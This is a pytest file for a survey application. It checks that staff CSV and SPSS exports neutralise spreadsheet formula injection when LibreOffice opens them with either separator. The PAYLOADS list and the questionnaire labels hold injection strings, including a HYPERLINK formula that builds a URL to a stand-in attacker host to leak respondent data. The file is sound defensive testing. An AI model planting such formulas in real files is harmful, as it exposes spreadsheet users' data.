"""Every file the staff area gives out stays data when a spreadsheet opens it (issue 16): each
CSV is opened by LibreOffice (German locale) once with commas and once with semicolons as the
separator, whichever the file used, and no cell of it becomes a formula; the SPSS file's labels
are neutralised like its values.

Before, the comma CSV left ``a;=1+41;b`` unquoted: split on ";", LibreOffice computed 42, and a
``=HYPERLINK(...)`` built the same way could carry another respondent's row to a web address.
`make test` installs Debian's libreoffice-calc-nogui; without it this test is skipped, unless
SURVEY_REQUIRE_OFFICE=1 (CI) makes that a failure (the ``office`` fixture, tests/web/conftest.py).
"""
from __future__ import annotations

import datetime as dt
import subprocess
import uuid
from pathlib import Path

import openpyxl
import pyreadstat

from survey.questionnaire import load_questionnaire_text
from survey.store.models import Response
from survey.store.municipality import DistrictInfo, ensure_default_fields, save_districts
from survey.store.questionnaires import import_questionnaire
from survey.store.responses import _version_rows
from tests.staff_helpers import logged_in

PAYLOADS = [
    "a;=1+41;b", "a,=1+41,b", '=HYPERLINK(CHAR(104)&"ttps://evil.example/?"&A2;"Hilfe")', "\uff1d1+1",
    "+1+1", "-1+1", "@SUM(1)", "x\t=1+1", "x|=1+1", "x, -2+3", "x; @A1",
]
# CSV filter options of LibreOffice: separator (44 ",", 59 ";"), text delimiter '"', UTF-8,
# from line 1, standard column types, German (1031).
SEPARATORS = {"comma": "44", "semicolon": "59"}
SLUG = "tricky"
FORM = f"""\
slug: {SLUG}
default_language: de
languages: [de]
title: {{de: "{'=1+1'}"}}
districts:
  - {{code: nord, label: {{de: "=HYPERLINK(\\"x\\")"}}}}
  - {{code: sued, label: {{de: "Süd;@A1"}}}}
sections:
  - code: about
    title: {{de: Über Sie}}
    questions:
      - {{code: district, type: district, label: {{de: "Stadtteil;=1+1"}}}}
      - code: kind
        type: single_choice
        label: {{de: "+Art"}}
        options:
          - {{code: a, label: {{de: "=A"}}}}
          - {{code: b, label: {{de: "B,=2+2"}}}}
  - code: housing
    title: {{de: Wohnen}}
    field: housing
    need: "kind == 'a'"
    questions:
      - {{code: remark, type: text, label: {{de: "@Bemerkung"}}}}
"""


def _store_responses(db_session_factory) -> None:
    with db_session_factory() as session:
        ensure_default_fields(session)
        save_districts(session, [DistrictInfo("nord", "=1+1;Nord"), DistrictInfo("sued", "Süd,@A1")])
        import_questionnaire(session, load_questionnaire_text(FORM))
        version_id = _version_rows(session, SLUG)[0].id
        for number in range(12):
            answers = {"district": "nord" if number % 2 else "sued", "kind": "a" if number % 3 else "b",
                       "remark": PAYLOADS[number % len(PAYLOADS)]}
            session.add(Response(public_id=str(uuid.uuid4()), submission_key=uuid.uuid4().hex, version_id=version_id,
                                 language="de", channel="web", started_on=dt.date(2026, 11, 2),
                                 submitted_at=dt.datetime(2026, 11, 2, 10, tzinfo=dt.UTC), answers=answers))
        session.commit()


def _open_in_libreoffice(soffice: str, files: list[Path], separator: str, out: Path) -> dict[str, list[list[object]]]:
    """Every file as LibreOffice reads it with ``separator``: the cells, a formula as '=…' text."""
    out.mkdir(parents=True, exist_ok=True)
    subprocess.run([soffice, "--headless", "--norestore", f"-env:UserInstallation=file://{out / 'profile'}",
                    f"--infilter=CSV:{SEPARATORS[separator]},34,76,1,,1031", "--convert-to", "xlsx", "--outdir", str(out),
                    *map(str, files)], check=True, capture_output=True, timeout=180)
    sheets = {}
    for file in files:
        workbook = openpyxl.load_workbook(out / f"{file.stem}.xlsx")
        sheets[file.name] = [[f"FORMULA {cell.value}" if cell.data_type == "f" else cell.value for cell in row]
                             for row in workbook.active.iter_rows()]
    return sheets


def test_no_cell_of_any_csv_becomes_a_formula_with_either_separator(app, db_session_factory, tmp_path, office):
    _store_responses(db_session_factory)
    analyst = logged_in(app, db_session_factory, "tabellen@musterstadt.example", "analyst", "designer")
    downloads = {
        "answers-comma.csv": f"/staff/q/{SLUG}/export.csv?delimiter=comma",
        "answers-semicolon.csv": f"/staff/q/{SLUG}/export.csv?delimiter=semicolon&bom=yes",
        "answers-labels.csv": f"/staff/q/{SLUG}/export.csv?labels=labels",
        "codebook.csv": f"/staff/q/{SLUG}/export/file?format=codebook",
        "aggregate.csv": f"/staff/q/{SLUG}/results/aggregate.csv",
        "gaps.csv": f"/staff/q/{SLUG}/gaps.csv",
        "offers.csv": "/staff/offers/export.csv",
    }
    files = []
    for name, url in downloads.items():
        response = analyst.get(url)
        assert response.status_code == 200, (url, response.get_data(as_text=True)[:300])
        (tmp_path / name).write_bytes(response.get_data())
        files.append(tmp_path / name)
    assert "=1+41" in (tmp_path / "answers-comma.csv").read_text(encoding="utf-8")  # the payloads are there

    for separator in SEPARATORS:
        sheets = _open_in_libreoffice(office, files, separator, tmp_path / separator)
        formulas = [(name, value) for name, rows in sheets.items() for row in rows for value in row
                    if isinstance(value, str) and (value.startswith(("FORMULA", "=", "+", "@", "＝")))]
        assert formulas == [], separator
        assert any("=1+41" in str(value) for row in sheets["answers-comma.csv"] for value in row)


def test_spss_labels_are_neutralised_like_its_values(app, db_session_factory, tmp_path, monkeypatch):
    from survey.exports import jobs

    # The job runs at once, in the request's thread: the test's database lives in one connection.
    monkeypatch.setattr(jobs, "start_in_background", lambda factory, job_id, folder: jobs.run_job(factory, job_id, folder))
    _store_responses(db_session_factory)
    analyst = logged_in(app, db_session_factory, "spss@musterstadt.example", "analyst")
    response = analyst.post(f"/staff/q/{SLUG}/export", {"format": "sav", "labels": "labels"})
    assert response.status_code == 303
    page = analyst.get(response.headers["Location"]).get_data(as_text=True)
    download = page.split('href="', )[1:]
    link = next(part.split('"', 1)[0] for part in download if part.split('"', 1)[0].endswith("/download"))
    path = tmp_path / "answers.sav"
    path.write_bytes(analyst.get(link).get_data())
    frame, meta = pyreadstat.read_sav(str(path))
    labels = [*meta.column_labels, *(text for values in meta.variable_value_labels.values() for text in values.values())]
    assert "'+Art" in labels and "'=A" in labels
    assert not [label for label in labels if label and label.startswith(("=", "+", "-", "@"))]
    values = [value for value in frame["remark"] if isinstance(value, str)]
    assert not [value for value in values if value.startswith(("=", "+", "-", "@"))]
    assert any("'=1+41" in value for value in values)
